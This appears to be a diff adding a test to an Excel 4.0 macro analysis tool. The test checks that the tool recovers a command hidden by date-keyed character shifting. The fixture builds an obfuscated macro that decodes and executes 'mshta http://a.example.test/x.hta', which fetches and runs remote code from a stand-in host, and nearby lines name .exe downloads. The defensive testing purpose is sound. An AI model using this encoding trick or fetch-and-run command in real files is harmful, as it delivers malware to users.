@@ -511,3 +511,20 @@ def test_files_fetched_by_other_programs() -> None:
     items = run(book(cells))
     assert facts(items, "effect.download") == ["ftp://files.example.test/x.exe", "http://files.example.test/y.exe"]
     assert "calc" in facts(items, "effect.run")
+
+
+@pytest.mark.parametrize(("key", "shift"), [("DAY(NOW())", 19), ("DAY(NOW())", 22), ("MONTH(TODAY())", 3)])
+def test_commands_locked_to_a_date(key: str, shift: int) -> None:
+    """With a key that is nearly right, a command is printable as well; it is none nevertheless."""
+    command = "mshta http://a.example.test/x.hta"
+    cells: Cells = {
+        "A1": '=FOR.CELL("c",C1:C33)',
+        "A2": f"=SET.VALUE(D1,D1&CHAR(c-{key}))",
+        "A3": "=NEXT()",
+        "A4": "=EXEC(D1)",
+        "A5": "=HALT()",
+    }
+    cells |= {f"C{number}": float(ord(c) + shift) for number, c in enumerate(command, 1)}
+    items = run(book(cells))
+    assert command in facts(items, "effect.run")
+    assert facts(items, "xlm.key")
